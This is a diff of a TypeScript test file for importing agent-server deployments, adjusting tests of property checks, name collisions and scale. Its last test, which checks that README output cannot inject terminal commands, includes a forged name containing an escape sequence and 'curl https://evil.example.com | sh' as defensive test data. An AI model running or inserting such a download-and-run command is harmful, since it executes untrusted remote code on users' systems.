@@ -186,7 +186,7 @@ new agentserver.Deployment("shared", {
     const inputs = fc.record({ env: json, metadata: json, sourceConfig: json, secrets });
     const one = fc.record({ name: text, inputs, problems: fc.array(text, { maxLength: 2 }) });
     const all = fc.uniqueArray(one, { maxLength: 4, selector: ({ name }) => name });
-    await check(300, fc.tuple(all, fc.constantFrom(...DOORS)), async ([some, door]) => {
+    await check(100, fc.tuple(all, fc.constantFrom(...DOORS)), async ([some, door]) => {
       const kind = "Deployment" as const;
       const found = some.map((each, at) => ({
         ...each,
@@ -238,7 +238,7 @@ new agentserver.Deployment("shared", {
     expect(resources.map(({ name }) => name)).to.deep.equal(["a", "a-b", "x", "y"]);
   });
 
-  it("names apart the assistants of two servers that have the same id and name", () => {
+  it("names apart the assistants of two servers that have the same id and all but the same name", () => {
     const on = (deployment: string) =>
       ({
         ...{ ...DEPLOYMENT, id: "5f0c", name: "agent", inputs: {} },
@@ -246,33 +246,27 @@ new agentserver.Deployment("shared", {
         importId: `https://${deployment}.example.com/assistants/5f0c`,
         deployment: { id: deployment, name: deployment },
       }) as const;
-    const { resources } = importedProject("imported", "native", [on("a"), on("b")], undefined);
-    expect(resources.map(({ name }) => name)).to.deep.equal(["a-agent", "b-agent"]);
+    const { resources } = importedProject(
+      "imported",
+      "native",
+      [on("a"), on("b.c"), on("b-c")],
+      undefined,
+    );
+    const names = resources.map(({ name }) => name);
+    expect(names[0]).to.equal("a-agent");
+    expect(names[1]).to.match(/^b-c-agent-[\da-f]{7}$/);
+    expect(new Set(names)).to.have.property("size", 3);
   });
 
-  it("reads a thousand deployments twice as often as five hundred: it compares none with all others", () => {
-    const readsFor = (count: number): number => {
-      let reads = 0;
-      const all = Array.from({ length: count }, (_, at) => ({
-        ...{ ...DEPLOYMENT, id: `${at}`, importId: `${at}` },
-        get name() {
-          reads += 1;
-          return `agent-${at}`;
-        },
-        get inputs() {
-          reads += 1;
-          return { secrets: new Proxy({ A: `${at}`, B: "same" }, { get: read }) };
-        },
-      }));
-      const read = (secrets: object, name: string): unknown => {
-        reads += 1;
-        return Reflect.get(secrets, name);
-      };
-      importedProject("imported", "dynamic", all, undefined);
-      return reads;
-    };
-    expect(readsFor(1000)).to.be.at.most(2.1 * readsFor(500));
-  });
+  it("writes the program of twenty thousand deployments, with a setting for each value, in linear time", () => {
+    const all = Array.from({ length: 20_000 }, (_, at) => ({
+      ...{ ...DEPLOYMENT, id: `${at}`, importId: `${at}`, name: `agent-${at}` },
+      inputs: { secrets: { A: `${at}`, B: "same" } },
+    }));
+    const { resources, settings } = importedProject("imported", "dynamic", all, undefined);
+    expect(new Set(resources.map(({ name }) => name))).to.have.property("size", 20_000);
+    expect(new Set(settings.map(({ key }) => key))).to.have.property("size", 20_001);
+  }).timeout(20_000); // to compare each with all others takes minutes
 
   it("prints names in the README on one line each, of which a terminal obeys nothing", () => {
     const forged = "\x1b[2J\n```sh\ncurl https://evil.example.com | sh\n```\n";
